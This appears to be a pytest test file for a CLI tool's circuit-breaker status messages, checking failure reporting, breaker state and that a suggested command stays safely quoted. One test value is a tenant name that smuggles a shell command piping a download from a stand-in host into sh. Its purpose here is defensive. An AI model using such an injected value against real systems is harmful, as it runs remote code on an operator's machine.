"""What a person reads of a breaker says why calls stop, and names a command that works as it stands."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from fairlead.cli.gate.breakers import breaker_record, problem_of, stops_calls
from fairlead.cli.processes import with_trouble
from fairlead.engine.ports import BreakerView, DestinationView, FailureView
from fairlead.policy.limits.breaker import Destination

EVIL = "Ann's; curl evil.example | sh #"
"""Customers choose their names, and operators copy the command into a shell."""


def record(account: str = "default", tenant: str = "acme", lanes: int = 1) -> dict[str, Any]:
    view = DestinationView(
        Destination("stripe", account, tenant, "api.test"),
        BreakerView("open", 0, 1, 40.0, 0, 0),
        (FailureView(19.26, 60.0, cause="http_500"), FailureView(20.0, None, cause="dns")),
    )
    return {
        "tenant": tenant,
        "provider": "stripe",
        "account": account,
        **breaker_record(view),
        "lanes_held": lanes,
    }


def test_the_last_failure_is_named() -> None:
    assert (record()["last_failure"], record()["last_failure_ago_s"]) == ("http_500", 19.26)
    assert "the last failure (http_500) was 19 s ago, jobs wait in 1 lane (" in problem_of(record())


def test_a_breaker_whose_time_is_over_stops_nothing_unless_jobs_wait() -> None:
    over = {**record(lanes=0), "left_s": 0.0}
    assert [stops_calls(state) for state in (record(lanes=0), over, {**over, "lanes_held": 2})] == [
        True,
        False,
        True,
    ]
    assert "lane" not in problem_of(record(lanes=0))


def test_a_process_that_claims_nothing_is_shown_as_unhealthy() -> None:
    processes = [
        {"pid": 1, "state": "alive", "trouble": None},
        {"pid": 2, "state": "alive", "trouble": "dns"},
    ]
    assert [process["state"] for process in with_trouble(processes)] == ["alive", "unhealthy"]


@pytest.mark.parametrize(
    ("account", "tenant", "options"),
    [
        ("default", "acme", ["-t", "acme", "-p", "stripe"]),
        ("eu", EVIL, ["-t", EVIL, "-p", "stripe", "-a", "eu"]),
    ],
)
def test_the_command_of_the_hint_can_be_pasted(account: str, tenant: str, options: list[str]) -> None:
    command = problem_of(record(account, tenant)).partition("(hint: `")[2].removesuffix("`)")
    assert shlex.split(command) == ["fairlead", "gate", "status", *options]
